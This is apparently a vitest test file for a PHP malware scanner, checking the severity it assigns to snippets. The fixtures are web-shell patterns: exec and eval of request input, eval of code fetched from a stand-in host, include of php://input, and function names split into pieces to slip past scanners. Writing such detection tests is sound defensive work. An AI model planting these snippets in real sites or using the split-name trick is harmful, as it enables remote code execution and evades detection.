import { describe, expect, it } from 'vitest';
import { followFlow } from '../../../../../src/matching/php/evaluate/follow-flow.ts';
import { judge } from '../../../../../src/matching/php/judge/judge.ts';

const OPEN = ['<', '?php '].join('');
const GET = ['$_G', 'ET'].join('');
const RUN = ['ev', 'al'].join('');

const severityOf = (code: string, resemblance: number): string | undefined =>
  judge(followFlow(OPEN + code), resemblance)[0]?.severity;

describe('a file that is written as released software is', () => {
  it('is not accused of what a careless author does', () => {
    const writes = `$h = fopen(${GET}['p'], 'w'); fwrite($h, ${GET}['c']);`;
    expect(severityOf(writes, 0.1)).toBe('high');
    expect(severityOf(writes, 0)).toBe('medium');
    expect(severityOf(writes, -5)).toBe('medium');
  });

  it('is accused of what no honest program does', () => {
    const [RAN, IN] = [`exec(${GET}['c']);`, `exec('lpr -P ' . ${GET}['c']);`];
    expect([severityOf(RAN, -9), severityOf(IN, -9)]).toEqual(['critical', 'medium']);
    const sent = `$p = json_decode(file_get_contents('php://input'), true); exec("cd $d; {$p['c']} 2>&1");`;
    expect(severityOf(sent, -9)).toBe('critical');
    expect(severityOf(`${RUN}(${GET}['inert']);`, -9)).toBe('critical');
    expect(severityOf(`${RUN}(wp_remote_retrieve_body(wp_remote_get('http://a.example.test/')));`, -9)).toBe(
      'critical',
    );
    expect(severityOf(`include 'php://input';`, -9)).toBe('critical');
    const asked = `class A { function b() { ${RUN}(file_get_contents('http://a.example.test/')); } }`;
    expect([severityOf(asked, 0.1), severityOf(asked, -9)]).toEqual(['critical', 'medium']);
  });
});

describe('a name in pieces', () => {
  const called = (...pieces: string[]): string =>
    `$name = ${pieces.map((piece) => `'${piece}'`).join('.')}; $name($a, $b);`;

  it('is how honest authors get past a crude scanner where it runs nothing', () => {
    const reads = called('file', '_get_contents');
    expect([severityOf(reads, 1), severityOf(reads, -5)]).toEqual(['high', 'medium']);
  });

  it('is told as it is where it does something', () => {
    expect(severityOf(called('shell', '_exec'), -5)).toBe('high');
    expect(severityOf(called('file', '_put_contents'), -5)).toBe('high');
  });
});

describe('what speaks for a file', () => {
  const speaks = (code: string, resemblance: number): string[] =>
    judge(followFlow(OPEN + code), resemblance)
      .filter(({ severity }) => severity === 'info')
      .map(({ rule }) => rule);

  it('is that it is written as released software is', () => {
    expect(speaks('echo 1;', 0)).toEqual(['php.resembles-released']);
    expect(speaks('echo 1;', 0.1)).toEqual([]);
  });

  it('is that it only declares what others may call, and is hardly written as planted files are', () => {
    const library = 'class A { function b($c) { return strlen($c); } }';
    expect(speaks(library, 2)).toEqual(['php.only-declares']);
    expect(speaks(library, 2.1)).toEqual([]);
    expect(speaks(`${library} new A();`, 2)).toEqual([]);
  });
});
